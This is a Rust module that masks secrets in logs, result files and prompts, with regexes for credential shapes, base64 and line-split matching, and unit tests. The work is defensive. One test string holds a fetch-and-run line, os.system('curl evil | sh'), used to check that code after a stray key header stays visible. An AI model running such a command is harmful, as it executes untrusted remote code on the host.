//! Secret masking for every sink: results files, console output, prompts.
//!
//! Two layers: the literal values of the secret settings self-heal holds, and
//! the shapes of well-known credentials (GitHub tokens, OpenAI-style keys, AWS
//! access keys and secret keys by name, Slack tokens, JWTs, `user:password@`
//! in URLs, `Authorization`/`Bearer` values, PEM and PGP private-key blocks),
//! so a secret printed by a failing test is hidden too. A literal is also
//! masked in base64 and broken across a line.

use std::sync::LazyLock;

use regex::Regex;

/// Where a credential may start: the start of the text, a character that cannot
/// be part of a name, or a JSON/string escape (`\n`, `\r`, `\t`), so that a
/// secret on its own line is found in serialised JSON too, where `\b` would see
/// the `n` of `\n` glued to it. The pattern's group 1 is kept in the replacement.
const START: &str = r"(^|[^A-Za-z0-9_]|\\[nrt])";

/// Each credential shape with its replacement (`${1}` keeps what stood before it).
static PATTERNS: LazyLock<Vec<(Regex, &'static str)>> = LazyLock::new(|| {
    let keep = "${1}***";
    [
        (format!(r"{START}(?:ghp|gho|ghs|ghu|ghr)_[A-Za-z0-9]{{20,}}\b"), keep),
        (format!(r"{START}github_pat_[A-Za-z0-9_]{{20,}}\b"), keep),
        (format!(r"{START}sk-(?:proj-|live-|test-)?[A-Za-z0-9_-]{{16,}}\b"), keep),
        (format!(r"{START}(?:AKIA|ASIA)[A-Z0-9]{{16}}\b"), keep),
        (format!(r"{START}(?i:(?:authorization\s*[:=]\s*(?:bearer|token|basic)?|bearer)\s+[A-Za-z0-9._~+/=-]{{8,}})"), keep),
        // An AWS secret key next to its name (alone it is 40 characters of base64).
        (
            r#"((?:^|[^A-Za-z0-9_])(?i:aws_secret_access_key|aws_secret_key|secret_access_key)["']?\s*[:=]\s*["']?)[A-Za-z0-9/+=]{40}"#.to_string(),
            keep,
        ),
        // Slack tokens.
        (format!(r"{START}xox[abposr]-[A-Za-z0-9-]{{10,}}"), keep),
        // JSON Web Tokens: header and payload are base64 JSON (`eyJ`).
        (format!(r"{START}eyJ[A-Za-z0-9_-]{{8,}}\.eyJ[A-Za-z0-9_-]{{8,}}\.[A-Za-z0-9_-]{{8,}}"), keep),
        // The password of `scheme://user:password@host`.
        (r#"([A-Za-z][A-Za-z0-9+.-]*://[^/\s:@'"]+:)[^/\s@'"]+@"#.to_string(), "${1}***@"),
        // A private-key block (PEM, PGP) to its END line; with no END line, only
        // the key text that follows (base64 and line breaks), at most 8 KiB, so a
        // stray BEGIN line cannot hide everything after it.
        (
            r"()(?s)-----BEGIN [A-Z ]*PRIVATE KEY(?: BLOCK)?-----(?:.*?-----END [A-Z ]*PRIVATE KEY(?: BLOCK)?-----|[A-Za-z0-9+/=\r\n]{0,8192})"
                .to_string(),
            keep,
        ),
    ]
    .into_iter()
    .filter_map(|(p, with)| Regex::new(&p).ok().map(|re| (re, with)))
    .collect()
});

/// Lines of a private-key block masked at most when it has no END line.
const MAX_KEY_LINES: usize = 200;

/// Base64 (`url`: the URL-safe alphabet), with padding.
fn base64(bytes: &[u8], url: bool) -> String {
    let table: &[u8; 64] = if url {
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    } else {
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    };
    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
    for chunk in bytes.chunks(3) {
        let b = [chunk[0], *chunk.get(1).unwrap_or(&0), *chunk.get(2).unwrap_or(&0)];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for k in 0..4 {
            if k <= chunk.len() {
                out.push(char::from(table[((n >> (18 - 6 * k)) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// The base64 text a secret always becomes inside a longer base64 string, at
/// each of the three byte offsets it may start at (the characters that also
/// depend on its neighbours left out), in both alphabets.
fn base64_forms(secret: &str) -> Vec<String> {
    let mut forms = Vec::new();
    for offset in 0..3usize {
        let mut bytes = vec![0u8; offset];
        bytes.extend_from_slice(secret.as_bytes());
        for url in [false, true] {
            let encoded = base64(&bytes, url);
            // Characters fully determined by the secret's bits alone.
            let first = (offset * 8).div_ceil(6);
            let last = ((offset + secret.len()) * 8) / 6;
            if let Some(form) = encoded.get(first..last).filter(|f| f.len() >= 8) {
                forms.push(form.to_string());
            }
        }
    }
    forms
}

/// A pattern for a secret broken across a line (a line break, and the
/// indentation or prefix a log adds, between any two of its characters).
fn split_pattern(secret: &str) -> Option<Regex> {
    if secret.chars().count() < 8 {
        return None;
    }
    let parts: Vec<String> = secret.chars().map(|c| regex::escape(&c.to_string())).collect();
    // A real line break, or one escaped in JSON text (`\n`).
    Regex::new(&parts.join(r"(?:(?:\r?\n|(?:\\r)?\\n)(?:\d{4}-\d\d-\d\dT[\d:.]+Z )?[ \t]*)?")).ok()
}

/// Replaces secrets in text with `***`.
#[derive(Clone, Default)]
pub struct Masker {
    literals: Vec<String>,
    /// Each literal split across a line break.
    split: Vec<Regex>,
    /// The secret values as given (for a value split across two lines of a file).
    values: Vec<String>,
}

impl std::fmt::Debug for Masker {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Masker({} literals)", self.literals.len())
    }
}

impl Masker {
    /// A masker for these literal secret values (values shorter than 4 characters are ignored:
    /// masking every `a` would only destroy the text), their base64 forms, and
    /// the values broken across a line.
    pub fn new(literals: Vec<String>) -> Self {
        let literals: Vec<String> = literals.into_iter().filter(|s| s.len() >= 4).collect();
        let split = literals.iter().filter_map(|l| split_pattern(l)).collect();
        let mut all: Vec<String> = literals.iter().flat_map(|l| base64_forms(l)).collect();
        all.extend(literals.iter().cloned());
        // Longest first, so a secret that contains another is masked whole.
        all.sort_by_key(|s| std::cmp::Reverse(s.len()));
        all.dedup();
        Self { literals: all, split, values: literals }
    }

    /// Whether the text holds one of the literal secret values.
    pub fn has_literal(&self, text: &str) -> bool {
        self.literals.iter().any(|lit| text.contains(lit.as_str())) || self.split.iter().any(|re| re.is_match(text))
    }

    /// The text with every secret replaced by `***`.
    pub fn mask(&self, text: &str) -> String {
        let mut out = text.to_string();
        for lit in &self.literals {
            if out.contains(lit.as_str()) {
                out = out.replace(lit.as_str(), "***");
            }
        }
        for re in &self.split {
            if re.is_match(&out) {
                out = re.replace_all(&out, "***").into_owned();
            }
        }
        for (re, with) in PATTERNS.iter() {
            if re.is_match(&out) {
                out = re.replace_all(&out, *with).into_owned();
            }
        }
        out
    }
}

impl Masker {
    /// Masks a file in place, line by line, in bounded memory (a line longer than
    /// 1 MiB is masked in 1 MiB pieces); a private-key block that spans lines is
    /// masked whole. The file is rewritten through a temporary sibling.
    pub fn mask_file(&self, path: &std::path::Path) -> std::io::Result<()> {
        use std::io::{BufRead, Read, Write};
        let mut input = std::io::BufReader::new(std::fs::File::open(path)?);
        let dir = path.parent().unwrap_or(std::path::Path::new("."));
        let mut tmp = tempfile::Builder::new().prefix(".masking-").tempfile_in(dir)?;
        {
            let mut out = std::io::BufWriter::new(tmp.as_file_mut());
            let mut in_key = false;
            let mut key_lines = 0usize;
            // The last line read (raw, masked, its line break), written once the
            // next one shows whether a secret continues into it.
            let mut pending: Option<(String, String, &str)> = None;
            const PIECE: u64 = 1 << 20;
            let mut buf = Vec::new();
            // The end of a cut piece of a long line, masked with the next piece so a
            // secret that straddles the cut is still seen whole.
            let mut carry = Vec::new();
            loop {
                buf.clear();
                buf.append(&mut carry);
                let read = (&mut input).take(PIECE).read_until(b'\n', &mut buf)?;
                if buf.is_empty() && read == 0 {
                    break;
                }
                if read as u64 == PIECE && !buf.ends_with(b"\n") {
                    // Cut at the last space or quote of the last 4 KiB (a character no
                    // token holds, and never inside a UTF-8 sequence); carry the rest.
                    let window = buf.len().saturating_sub(4096);
                    if let Some(cut) = buf[window..].iter().rposition(|b| matches!(b, b' ' | b'"' | b'\'' | b',')) {
                        carry = buf.split_off(window + cut + 1);
                    }
                }
                let text = String::from_utf8_lossy(&buf);
                let (line, newline) = match text.strip_suffix('\n') {
                    Some(l) => (l, "\n"),
                    None => (text.as_ref(), ""),
                };
                let is_end = line.contains("-----END") && line.contains("PRIVATE KEY");
                // A secret value broken across this line and the one before: both parts go.
                let mut line = line.to_string();
                if let Some((prev_raw, prev_masked, _)) = pending.as_mut()
                    && let Some((head, tail)) = self.split_across(prev_raw, &line)
                {
                    *prev_masked = format!("{}***", self.mask(&prev_raw[..prev_raw.len() - head]));
                    line = format!("{}***{}", &line[..tail.0], &line[tail.1..]);
                }
                let masked = if in_key && key_lines < MAX_KEY_LINES {
                    key_lines += 1;
                    in_key = !is_end;
                    "***".to_string()
                } else {
                    in_key = line.contains("-----BEGIN") && line.contains("PRIVATE KEY") && !is_end;
                    key_lines = 0;
                    self.mask(&line)
                };
                if let Some((_, masked, newline)) = pending.take() {
                    out.write_all(masked.as_bytes())?;
                    out.write_all(newline.as_bytes())?;
                }
                pending = Some((line, masked, newline));
            }
            if let Some((_, masked, newline)) = pending.take() {
                out.write_all(masked.as_bytes())?;
                out.write_all(newline.as_bytes())?;
            }
            out.flush()?;
        }
        tmp.persist(path).map_err(|e| e.error)?;
        Ok(())
    }
}

impl Masker {
    /// Where a secret value runs from the end of `prev` into `line`: how many
    /// bytes end `prev`, and the byte range it takes in `line` (after a log's
    /// timestamp and indentation).
    fn split_across(&self, prev: &str, line: &str) -> Option<(usize, (usize, usize))> {
        static STAMP: LazyLock<Regex> = LazyLock::new(|| crate::analysis::re(r"^(?:\d{4}-\d\d-\d\dT[\d:.]+Z )?[ \t]*"));
        let body = STAMP.find(line).map_or(0, |m| m.end());
        for value in self.values.iter().filter(|v| v.len() >= 8) {
            for cut in (4..value.len() - 3).filter(|&c| value.is_char_boundary(c)) {
                let (head, tail) = value.split_at(cut);
                if prev.ends_with(head) && line[body..].starts_with(tail) {
                    return Some((head.len(), (body, body + tail.len())));
                }
            }
        }
        None
    }
}

/// `bytes` random bytes from the kernel as lowercase hex: for session tokens
/// and delimiters that nothing outside the process may guess.
pub fn random_hex(bytes: usize) -> String {
    use std::io::Read;
    let mut buf = vec![0u8; bytes];
    let from_kernel = std::fs::File::open("/dev/urandom").and_then(|mut f| f.read_exact(&mut buf)).is_ok();
    if !from_kernel {
        // No /dev/urandom (a bare chroot): the standard library's per-process
        // random hasher keys, mixed with the clock.
        use std::hash::{BuildHasher, Hasher};
        for chunk in buf.chunks_mut(8) {
            let mut h = std::collections::hash_map::RandomState::new().build_hasher();
            h.write_u128(
                std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map_or(0, |d| d.as_nanos()),
            );
            let n = chunk.len();
            chunk.copy_from_slice(&h.finish().to_le_bytes()[..n]);
        }
    }
    buf.iter().map(|b| format!("{b:02x}")).collect()
}

/// Compares two strings in time that depends only on their lengths, so a
/// session token cannot be guessed byte by byte from response times.
pub fn constant_time_eq(a: &str, b: &str) -> bool {
    a.len() == b.len() && a.bytes().zip(b.bytes()).fold(0u8, |acc, (x, y)| acc | (x ^ y)) == 0
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn masks_literals_and_known_shapes() {
        let m = Masker::new(vec!["my-custom-secret".into(), "ab".into()]);
        let text = "key=my-custom-secret ab ghp_abcdefghijklmnopqrstuvwxyz0123 github_pat_11ABCDEFG0123456789_abcdefghij sk-proj-abcdefghijklmnop0123 AKIAABCDEFGHIJKLMNOP Authorization: Bearer abc.def.ghi-jkl\n-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----\nend";
        let out = m.mask(text);
        for leaked in ["my-custom-secret", "ghp_", "github_pat_", "sk-proj", "AKIA", "abc.def", "MIIE"] {
            assert!(!out.contains(leaked), "{leaked} leaked: {out}");
        }
        assert!(out.contains(" ab "), "short literals are not masked: {out}");
        assert!(out.ends_with("end"));
    }

    #[test]
    fn every_pattern_compiles() {
        assert_eq!(PATTERNS.len(), 10, "a pattern failed to compile and would mask nothing");
    }

    #[test]
    fn secrets_on_their_own_line_are_masked_inside_serialised_json() {
        let m = Masker::new(vec![]);
        let text = "out:\nghp_abcdefghijklmnopqrstuvwxyz0123\nAKIAABCDEFGHIJKLMNOP\nAuthorization: Bearer abc.def.ghi-jkl\nsk-proj-abcdefghijklmnop0123\n";
        let json = serde_json::to_string(text).unwrap();
        let out = m.mask(&json);
        for leaked in ["ghp_", "AKIA", "abc.def", "sk-proj"] {
            assert!(!out.contains(leaked), "{leaked} leaked: {out}");
        }
        assert!(out.starts_with("\"out:\\n***\\n***\\n"), "{out}");
        // A name that merely contains `sk-` is left alone.
        assert_eq!(m.mask("task-abcdefghijklmnopqrstuvwxyz"), "task-abcdefghijklmnopqrstuvwxyz");
    }

    #[test]
    fn files_are_masked_in_place_with_key_blocks_across_lines() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("job.txt");
        let text = "ts ok\nts token ghp_abcdefghijklmnopqrstuvwxyz0123\nts -----BEGIN RSA PRIVATE KEY-----\nts MIIEsecretbody\nts -----END RSA PRIVATE KEY-----\nts my-literal-value end";
        std::fs::write(&path, text).unwrap();
        Masker::new(vec!["my-literal-value".into()]).mask_file(&path).unwrap();
        let out = std::fs::read_to_string(&path).unwrap();
        assert_eq!(out, "ts ok\nts token ***\nts ***\n***\n***\nts *** end");
    }

    #[test]
    fn a_secret_across_the_cut_of_a_very_long_line_is_masked() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("long.txt");
        // The token starts 6 bytes before the 1 MiB cut.
        let token = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
        let mut text = "x".repeat((1 << 20) - 100);
        text.push(' ');
        text.push_str(&"y".repeat(93));
        text.push(' ');
        text.push_str(token);
        text.push_str(" tail\n");
        assert!(text.find(token).unwrap() < 1 << 20 && text.find(token).unwrap() + token.len() > 1 << 20);
        std::fs::write(&path, &text).unwrap();
        Masker::new(vec![]).mask_file(&path).unwrap();
        let out = std::fs::read_to_string(&path).unwrap();
        assert!(!out.contains("ghp_") && out.ends_with(" *** tail\n"), "{}", &out[out.len() - 60..]);
        assert_eq!(out.len(), text.len() - token.len() + 3);
    }

    #[test]
    fn ordinary_text_is_unchanged() {
        let m = Masker::new(vec![]);
        let text = "def task_runner(): return 'sk' + 'ip'  # bearer of news";
        assert_eq!(m.mask(text), text);
    }

    #[test]
    fn the_shapes_the_second_review_found_are_masked() {
        let m = Masker::new(vec!["sekrit-api-key-0123456789".into()]);
        let aws = "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
        let cases = [
            (
                "-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQOYBF0secretbody\n-----END PGP PRIVATE KEY BLOCK-----",
                "lQOYBF0",
            ),
            (aws, "wJalrXUtn"),
            ("token xoxb-123456789012-abcdefghijkl", "xoxb-"),
            (
                "jwt eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
                "eyJhbGci",
            ),
            ("url https://deploy:hunter2hunter2@git.example.com/x.git", "hunter2"),
            ("b64 c2Vrcml0LWFwaS1rZXktMDEyMzQ1Njc4OQ==", "c2Vrcml0LWFwaS1rZXktMDEyMzQ1Njc4OQ"),
            ("split sekrit-api-key-\n    0123456789 end", "0123456789"),
        ];
        for (text, leaked) in cases {
            let out = m.mask(text);
            assert!(!out.contains(leaked), "{leaked} leaked: {out}");
        }
        assert_eq!(m.mask(aws), "aws_secret_access_key = ***");
        assert_eq!(
            m.mask("url https://deploy:hunter2hunter2@git.example.com/x"),
            "url https://deploy:***@git.example.com/x"
        );
        // The base64 of the secret inside a longer base64 text, at any offset.
        for prefix in ["", "x", "xy"] {
            let blob = base64(format!("{prefix}sekrit-api-key-0123456789 and more").as_bytes(), false);
            assert!(m.mask(&blob).contains("***"), "offset {}: {blob}", prefix.len());
        }
        assert!(m.has_literal("sekrit-api-key-\n0123456789"));
        // In a file masked line by line, with a log timestamp before the second part.
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("log.txt");
        std::fs::write(&path, "a\nkey sekrit-api-\n2024-01-01T00:00:00.1234567Z key-0123456789 tail\nb\n").unwrap();
        m.mask_file(&path).unwrap();
        assert_eq!(std::fs::read_to_string(&path).unwrap(), "a\nkey ***\n2024-01-01T00:00:00.1234567Z *** tail\nb\n");
    }

    #[test]
    fn a_begin_line_with_no_end_masks_only_key_text_and_a_bounded_length() {
        let m = Masker::new(vec![]);
        let text = "+# -----BEGIN PRIVATE KEY-----\n+import os\n+os.system('curl evil | sh')\n";
        let out = m.mask(text);
        assert!(out.contains("os.system('curl evil | sh')"), "the code after a stray BEGIN stays visible: {out}");
        let long = format!("-----BEGIN PRIVATE KEY-----\n{}\nvisible", "A".repeat(20_000));
        let out = m.mask(&long);
        assert!(out.ends_with("visible") && out.len() > 10_000, "masked past the bound");
        assert_eq!(base64(b"any carnal pleas", false), "YW55IGNhcm5hbCBwbGVhcw==");
        assert_eq!(base64(b"\xfb\xff", true), "-_8=");
    }
}
